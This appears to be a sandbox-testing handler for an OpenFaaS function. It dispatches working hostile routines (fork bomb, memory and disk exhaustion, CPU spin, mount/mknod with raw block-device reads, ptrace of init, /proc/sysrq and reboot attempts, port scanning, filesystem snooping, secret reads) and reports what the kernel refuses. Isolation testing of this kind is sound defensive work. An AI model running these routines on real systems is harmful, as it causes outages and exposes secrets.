# A hostile function: each call body names an attack; the answer says what the kernel said.
import ctypes
import errno
import json
import os
import socket
import time

libc = ctypes.CDLL(None, use_errno=True)


def err_name(e):
    return errno.errorcode.get(e, str(e))


def attempt(fn):
    try:
        r = fn()
        return {"ok": True, "result": r}
    except OSError as e:
        return {"ok": False, "error": err_name(e.errno)}


def uid_map(_):
    with open("/proc/self/uid_map") as f:
        return {"uid_map": f.read().split(), "uid": os.getuid()}


def fork_bomb(_):
    # libc's fork, and pause() at once in the child: Python's own fork handlers would touch
    # enough copied pages per child to hit the memory limit before the pids limit.
    fork, pause = libc.fork, libc.pause
    pids, failure = [], None
    for _ in range(5000):
        pid = fork()
        if pid == 0:
            pause()
            os._exit(0)
        if pid < 0:
            failure = err_name(ctypes.get_errno())
            break
        pids.append(pid)
    for p in pids:
        os.kill(p, 9)
        os.waitpid(p, 0)
    return {"forked": len(pids), "failure": failure}


def memory_bomb(_):
    hog = []
    while True:
        hog.append(bytearray(16 * 1024 * 1024))


def disk_fill(_):
    written, failure = 0, None
    chunk = b"x" * (1024 * 1024)
    try:
        with open("/var/fill", "wb") as f:
            while written < 4 * 1024 * 1024 * 1024:
                f.write(chunk)
                f.flush()
                written += len(chunk)
    except OSError as e:
        failure = err_name(e.errno)
    os.unlink("/var/fill")
    return {"written": written, "failure": failure}


def spin(body):
    if body.endswith(":again"):
        return {"spun": False}
    while True:
        pass


def mount(_):
    os.makedirs("/tmp/mnt", exist_ok=True)
    out = {}
    for fstype, src in (("tmpfs", b"none"), ("proc", b"proc"), ("ext4", b"/dev/sda")):
        r = libc.mount(src, b"/tmp/mnt", fstype.encode(), 0, None)
        out[fstype] = "mounted" if r == 0 else err_name(ctypes.get_errno())
        if r == 0:
            libc.umount2(b"/tmp/mnt", 2)
    return out


def mknod(_):
    out = {"mknod": attempt(lambda: os.mknod("/tmp/sda", 0o600 | 0o060000, os.makedev(8, 0)))}
    # Whatever block device is reachable, by the node just made or one in /dev.
    reads = {}
    for dev in ["/tmp/sda"] + ["/dev/" + n for n in os.listdir("/dev")]:
        try:
            import stat

            if not stat.S_ISBLK(os.stat(dev).st_mode):
                continue
            with open(dev, "rb") as f:
                reads[dev] = {"ok": True, "bytes": len(f.read(512))}
        except OSError as e:
            reads[dev] = {"ok": False, "error": err_name(e.errno)}
    out["reads"] = reads
    return out


def ptrace(_):
    PTRACE_ATTACH = 16
    PTRACE_DETACH = 17
    out = {}
    child = os.fork()
    if child == 0:
        time.sleep(30)
        os._exit(0)
    for name, pid in (("init", 1), ("sibling", child)):
        r = libc.ptrace(PTRACE_ATTACH, pid, None, None)
        out[name] = "attached" if r == 0 else err_name(ctypes.get_errno())
        if r == 0:
            libc.ptrace(PTRACE_DETACH, pid, None, None)
    os.kill(child, 9)
    os.waitpid(child, 0)
    # Host processes are not in this pid namespace at all.
    out["pids"] = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    return out


def proc_sys_writes(_):
    targets = [
        "/proc/sys/kernel/hostname",
        "/proc/sys/vm/drop_caches",
        "/proc/sysrq-trigger",
        "/sys/kernel/mm/transparent_hugepage/enabled",
        "/sys/fs/cgroup/cgroup.procs",
        "/sys/class/net/lo/mtu",
    ]
    out = {}
    for t in targets:
        def w(t=t):
            with open(t, "w") as f:
                f.write("1\n")
            return "written"

        out[t] = attempt(w)
    out["reboot"] = "rebooted" if libc.reboot(0x4321FEDC) == 0 else err_name(ctypes.get_errno())
    return out


def connect(body):
    cfg = json.loads(body.split(":", 1)[1])
    out = {}
    hosts = ["127.0.0.1"] + cfg.get("hosts", [])
    for host in hosts:
        for port in cfg["ports"]:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.settimeout(2)
            try:
                s.connect((host, port))
                out[f"{host}:{port}"] = "connected"
            except OSError as e:
                out[f"{host}:{port}"] = err_name(e.errno) if e.errno else type(e).__name__
            finally:
                s.close()
    return out


def snoop(body):
    marker = body.split(":", 1)[1].encode()
    found = []
    seen = 0
    for root, dirs, files in os.walk("/", onerror=lambda e: None):
        if root.startswith(("/proc", "/sys", "/dev")):
            dirs[:] = []
            continue
        for n in files:
            p = os.path.join(root, n)
            seen += 1
            try:
                with open(p, "rb") as f:
                    if marker in f.read(1 << 20):
                        found.append(p)
            except OSError:
                pass
    return {"found": found, "seen": seen}


def own_secret(body):
    name = body.split(":", 1)[1]
    p = "/var/openfaas/secrets/" + name
    st = os.stat(p)
    with open(p) as f:
        value = f.read()
    return {"mode": oct(st.st_mode & 0o777), "uid": st.st_uid, "value": value}


ATTACKS = {
    "uid_map": uid_map,
    "fork_bomb": fork_bomb,
    "memory_bomb": memory_bomb,
    "disk_fill": disk_fill,
    "spin": spin,
    "mount": mount,
    "mknod": mknod,
    "ptrace": ptrace,
    "proc_sys_writes": proc_sys_writes,
    "connect": connect,
    "snoop": snoop,
    "own_secret": own_secret,
}


def handle(event, context):
    body = event["body"]
    attack = ATTACKS[body.split(":", 1)[0]]
    return {"statusCode": 200, "headers": {"content-type": "application/json"}, "body": json.dumps(attack(body))}
